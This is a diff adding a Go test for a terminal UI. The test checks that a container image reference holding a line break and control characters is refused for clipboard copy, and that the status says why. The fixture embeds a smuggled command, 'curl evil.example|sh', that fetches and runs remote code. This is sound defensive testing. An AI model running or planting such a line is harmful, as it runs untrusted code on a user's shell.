@@ -119,3 +119,19 @@ func FuzzHostileRow(f *testing.F) {
 		hostileScreens(t, s, plain)
 	})
 }
+
+// c copies the image reference to the clipboard: never a tenant's control
+// or invisible characters, which a paste into a shell would carry.
+func TestHostileImageReferenceIsNotCopied(t *testing.T) {
+	m, src := newTestModel(t, allowed(), orgAdmin(), Options{}, 140, 40)
+	row := app{ns: "hanzo", name: "evil", declared: "v1\n curl evil.example|sh\n", running: "v1", latest: "v1", ready: 2, updated: 2}.build()
+	src.upsert(row)
+	m.Update(snapshotMsg{src.Snapshot()})
+	selectKey(t, m, row.Key())
+	if _, cmd := m.Update(keyMsg("c")); cmd != nil {
+		t.Fatal("c returned a command (the clipboard write) for a reference with a line break")
+	}
+	if v := plainView(m); !strings.Contains(v, "not copied") {
+		t.Fatalf("the status does not say why:\n%s", v)
+	}
+}
